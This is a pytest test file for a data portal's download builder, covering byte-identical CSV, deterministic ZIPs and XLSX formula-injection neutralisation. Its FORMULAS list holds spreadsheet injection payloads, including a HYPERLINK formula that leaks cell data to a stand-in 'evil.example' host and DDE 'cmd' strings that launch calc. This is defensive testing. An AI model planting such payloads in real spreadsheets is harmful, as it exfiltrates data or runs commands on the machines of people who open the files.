"""Download files (scripts/portal/site/downloads.py): identical CSV, safe XLSX, deterministic ZIPs."""

from __future__ import annotations

import io
import json
import zipfile

import openpyxl
import pytest

from scripts.portal.errors import PortalError

from scripts.portal.site import downloads
from scripts.portal.model.reader import load_portal
from tests.site_build import FIXTURE_PACKAGES


@pytest.fixture(scope="module")
def portal():
    return load_portal(FIXTURE_PACKAGES)


def written(tmp_path, pkg):
    """The package's downloads, written under tmp_path as the build puts them under docs/."""
    out = {}
    for d, data in downloads.package_files(pkg, "readme", "cite", "@misc{x}\n"):
        (tmp_path / d.path).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / d.path).write_bytes(data)
        out[d.format] = d
    return out


def test_csv_and_descriptor_byte_identical(portal, tmp_path):
    pkg = portal.packages[0]
    files = written(tmp_path, pkg)
    assert (tmp_path / files["CSV (UTF-8)"].path).read_bytes() == (pkg.path / "data.csv").read_bytes()
    assert (tmp_path / files["datapackage.json"].path).read_bytes() == (pkg.path / "datapackage.json").read_bytes()
    assert files["CSV (UTF-8)"].sha256 == pkg.resource["hash"].split(":")[1]


def test_downloads_are_deterministic(portal, tmp_path):
    pkg = portal.packages[0]
    a = written(tmp_path / "a", pkg)
    b = written(tmp_path / "b", pkg)
    assert [d.sha256 for d in a.values()] == [d.sha256 for d in b.values()]


def test_xlsx_typed_and_formula_text_neutralised(portal):
    pkg = next(p for p in portal.packages if p.name == "liaoning-internet-2020-table-1-app-users")
    pkg.rows[0]["application"] = '=HYPERLINK("http://evil")'
    try:
        wb = openpyxl.load_workbook(io.BytesIO(downloads.xlsx_bytes(pkg)))
    finally:
        pkg.rows[0]["application"] = "在线教育"
    ws = wb["data"]
    assert ws["A1"].value == "应用类型"
    assert ws["A2"].data_type == "s" and ws["A2"].value.startswith("=") and ws["A2"].quotePrefix
    assert ws["B2"].value == 850.6 and ws["B2"].data_type == "n"
    assert ws.max_row == len(pkg.rows) + 1
    assert {"data", "fields", "about"} <= set(wb.sheetnames)


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]


def formula_package(tmp_path, text):
    """The app-users fixture package with `text` as a category cell, a field title and the title."""
    import csv
    import hashlib
    import shutil

    packages = tmp_path / "packages"
    name = "liaoning-internet-2020-table-1-app-users"
    packages.mkdir()
    shutil.copy(FIXTURE_PACKAGES / "reports.json", packages / "reports.json")
    shutil.copytree(FIXTURE_PACKAGES / name, packages / name)
    rows = list(csv.reader(io.StringIO((packages / name / "data.csv").read_text("utf-8"), newline="")))
    rows[1][0] = text
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\n").writerows(rows)
    data = out.getvalue().encode("utf-8")
    (packages / name / "data.csv").write_bytes(data)
    desc = json.loads((packages / name / "datapackage.json").read_text("utf-8"))
    desc["title"] = text
    desc["resources"][0]["schema"]["fields"][0]["title"] = text
    desc["resources"][0]["bytes"] = len(data)
    desc["resources"][0]["hash"] = "sha256:" + hashlib.sha256(data).hexdigest()
    (packages / name / "datapackage.json").write_text(json.dumps(desc, ensure_ascii=False), "utf-8")
    return load_portal(packages).packages[0]


def test_tab_or_cr_before_a_formula_is_refused_by_the_reader(tmp_path):
    """Control characters (tab, CR) are refused in titles and cells, so they never reach a download."""
    with pytest.raises(PortalError) as err:
        formula_package(tmp_path, "\t=1+1")
    assert err.value.package == "liaoning-internet-2020-table-1-app-users"
    assert err.value.field == "title" and "control" in err.value.message


@pytest.mark.parametrize("text", FORMULAS, ids=["hyperlink", "plus", "minus", "at", "equals"])
def test_formula_text_is_inert_in_xlsx_and_exact_in_csv(tmp_path, text):
    pkg = formula_package(tmp_path, text)
    files = written(tmp_path / "docs", pkg)
    # CSV (and the package ZIP) keep the data exactly as published
    csv_bytes = (tmp_path / "docs" / files["CSV (UTF-8)"].path).read_bytes()
    assert csv_bytes == (pkg.path / "data.csv").read_bytes()
    assert text in csv_bytes.decode("utf-8").replace('""', '"')
    assert zipfile.ZipFile(tmp_path / "docs" / files["ZIP"].path).read(f"{pkg.name}/data.csv") == csv_bytes
    assert json.loads((tmp_path / "docs" / files["JSON"].path).read_bytes())["records"][0]["application"] == text
    # XLSX: no formula anywhere in the workbook; the text is a string cell, value unchanged,
    # with Excel's quote prefix (so editing the cell does not turn it into a formula)
    xlsx = (tmp_path / "docs" / files["Excel (XLSX)"].path).read_bytes()
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    wb = openpyxl.load_workbook(io.BytesIO(xlsx))
    cells = {"data row": wb["data"]["A2"], "data header": wb["data"]["A1"],
             "fields sheet": wb["fields"]["B2"],
             "about sheet": next(r[1] for r in wb["about"].iter_rows() if r[0].value == "title")}
    for where, cell in cells.items():
        assert cell.data_type == "s", where
        assert cell.value == text, (where, cell.value)
        assert cell.quotePrefix, where
    assert wb["data"]["A1"].font.b  # header still bold
    assert wb["data"]["B2"].data_type == "n"  # numbers stay numbers


def test_json_has_records_and_schema(portal, tmp_path):
    pkg = portal.packages[0]
    doc = json.loads(downloads.json_bytes(pkg))
    assert len(doc["records"]) == len(pkg.rows)
    assert [f["name"] for f in doc["schema"]["fields"]] == [f.name for f in pkg.fields]


def test_package_zip_has_package_readme_and_citation(portal, tmp_path):
    pkg = portal.packages[0]
    z = zipfile.ZipFile(tmp_path / written(tmp_path, pkg)["ZIP"].path)
    names = set(z.namelist())
    assert {f"{pkg.name}/{n}" for n in ("datapackage.json", "data.csv", "README.md", "CITATION.txt", "CITATION.bib")} == names
    assert z.read(f"{pkg.name}/data.csv") == pkg.csv_bytes
    assert all(i.date_time == downloads.ZIP_DATE for i in z.infolist())


def test_portal_zip_holds_every_package(portal, tmp_path):
    d, data = downloads.portal_zip_file(portal, FIXTURE_PACKAGES, "readme")
    assert d.bytes == len(data) and d.path == "downloads/portal-all.zip"
    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
    assert "portal/reports.json" in names
    for pkg in portal.packages:
        assert f"portal/{pkg.name}/data.csv" in names
